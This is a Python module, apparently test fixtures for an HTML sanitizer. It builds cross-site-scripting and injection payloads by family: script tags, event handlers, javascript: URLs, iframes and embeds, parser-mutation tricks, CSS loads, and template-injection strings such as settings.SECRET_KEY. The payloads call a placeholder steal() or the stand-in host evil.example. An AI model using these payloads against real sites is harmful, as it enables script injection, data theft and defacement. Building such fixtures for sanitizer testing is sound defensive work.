"""Hostile HTML by family, built from parts so that each family is tried with each payload."""

RUN = "steal()"
HOST = "//evil.example"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script src={HOST}/a.js></script>",
    f'<script type="module">{RUN}</script>',
    f"<<script>{RUN}//<</script>",
    f"<script>{RUN}//",
    f"</title></textarea></style><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<!-- --!><img src=x onerror={RUN}>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<scr\x00ipt>{RUN}</script>",
    f"\ud800<script>{RUN}</script>",
    f"<\u017fcript>{RUN}</\u017fcript>",
]

HANDLERS = [
    f"<{tag} {event}={quote}{RUN}{quote} {more}>x</{tag.split()[0]}>"
    for tag, event, more in (
        ("img", "onerror", "src=x"),
        ("img/src=x", "onerror", ""),
        ("p", "onclick", ""),
        ("p", "onfocus", "tabindex=1 autofocus"),
        ("p", "onpointerenter", ""),
        ("svg", "onload", ""),
        ("video", "onloadstart", "src=x"),
        ("details", "ontoggle", "open"),
        ("td", "onmouseover", ""),
        ("a", "onmouseenter", 'href="https://example.org/"'),
        ("form", "onsubmit", ""),
        ("button", "onclick", "popovertarget=x"),
        ("body", "onload", ""),
        ("marquee", "onstart", ""),
    )
    for quote in ("", '"', "'")
]

ADDRESSES = [
    f'<a href="{address}">x</a>'
    for address in (
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f"java\tscript:{RUN}",
        f"java&#10;script:{RUN}",
        f"java&NewLine;script:{RUN}",
        f"javascript&colon;{RUN}",
        f"&#1;javascript:{RUN}",
        f"\ufeffjavascript:{RUN}",
        f"\x1fjavascript:{RUN}",
        f"javascript://example.org/%0a{RUN}",
        f"vbscript:{RUN}",
        "data:text/html;base64,PHNjcmlwdD4=",
        "DATA:image/svg+xml,x",
        "blob:https://example.org/1",
        "feed:https://example.org/",
        f"view-source:{HOST}",
        "file:///etc/passwd",
        HOST,
        f"/\\{HOST.strip('/')}",
        f"\\\\{HOST.strip('/')}",
        "https:\\\\evil.example",
        "https:evil.example",
        "https:///evil.example",
        "/\t/evil.example",
        " //evil.example",
    )
]

EMBEDS = [
    f'<iframe src="https:{HOST}/"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<object data={HOST}/x></object>",
    f"<embed src={HOST}/x>",
    f"<base href={HOST}/>",
    f'<meta http-equiv="refresh" content="0;url={HOST}">',
    f"<link rel=stylesheet href={HOST}/x.css>",
    f"<img src=https:{HOST}/pixel.gif>",
    f"<img srcset='{HOST}/pixel.gif 2x'>",
    f"<video poster={HOST}/x.gif></video>",
    f"<picture><source srcset={HOST}/x.gif><img></picture>",
    f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
    f"<form action=javascript:{RUN}><input name=attributes><button>x</button></form>",
    f'<math href="javascript:{RUN}">x</math>',
    f"<svg><a href=javascript:{RUN}><text y=9>x</text></a></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe onload={RUN}></iframe></foreignObject></svg>",
]

MUTATIONS = [
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<textarea><a title="</textarea><img src=x onerror={RUN}>">x</a></textarea>',
    f"<select><style></select><img src=x onerror={RUN}></style></select>",
    f'<p title="--><img src=x onerror={RUN}>">x</p>',
    f"<table><svg><style><img src=x onerror={RUN}></style></svg></table>",
    f"<ul><li><svg><li><style><img src=x onerror={RUN}></style>",
    "<div>" * 700 + f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<table><tr><td><form><form><b><a href=javascript:{RUN}><tr>x",
    "&amp;lt;script&amp;gt;steal()&amp;lt;/script&amp;gt;",
]

STYLES = [
    f"<style>@import url({HOST}/x.css);</style>",
    f'<p style="background:url({HOST}/x.gif)">x</p>',
    '<p style="position:fixed;inset:0;z-index:9999">This site was seized</p>',
    f'<a href="{HOST}" style="position:absolute;inset:0">x</a>',
    '<p class="site-header" id="content">x</p>',
    '<a id="config" name="location" href="https://example.org/">x</a>',
    '<p data-action="delete" hx-post="/admin/" x-on:click="steal()">x</p>',
    '<p hidden lang="ru" dir="rtl" title="x" contenteditable>x</p>',
]

CARDS = [
    *(
        f"<figure data-embed='{address}'><figcaption>{title}</figcaption></figure>"
        for address in (f"javascript:{RUN}", f"{HOST}/x", 'https://example.org/"onclick=steal()', "/admin/logout/")
        for title in ("x", f"<img src=x onerror={RUN}>", f"<a href=javascript:{RUN}>x</a>")
    ),
    f'<figure data-embed="https://example.org/?a=&quot;><script>{RUN}</script>"><figcaption>x</figcaption></figure>',
    f'<figure class="embed" data-embed="{HOST}/x"><p class="embed-site"><iframe src={HOST}></iframe></p></figure>',
    f'<iframe src="https://www.facebook.com/plugins/post.php?href=javascript%3A{RUN}" title="<script>{RUN}</script>"></iframe>',
]

TEMPLATES = ["{{ settings.SECRET_KEY }}", "{% debug %}", "${steal()}", "<%= 7*7 %>", '<p title="{{7*7}}">{{7*7}}</p>']

VECTORS = [*SCRIPTS, *HANDLERS, *ADDRESSES, *EMBEDS, *MUTATIONS, *STYLES, *CARDS, *TEMPLATES]

#: What a title, a name or a caption may be made of to leave its place in HTML, JSON or an attribute.
LINES = [
    '"><script>steal()</script>',
    "</script><script>steal()</script>",
    "</title><img src=x onerror=steal()>",
    "'-steal()-'",
    '"};steal();//',
    "]]></title><script>steal()</script>",
    "{{ 7*7 }}{% debug %}",
    "<b>bold</b> & <i>",
    "javascript:steal()",
    "line\u2028separator\u2029",
]
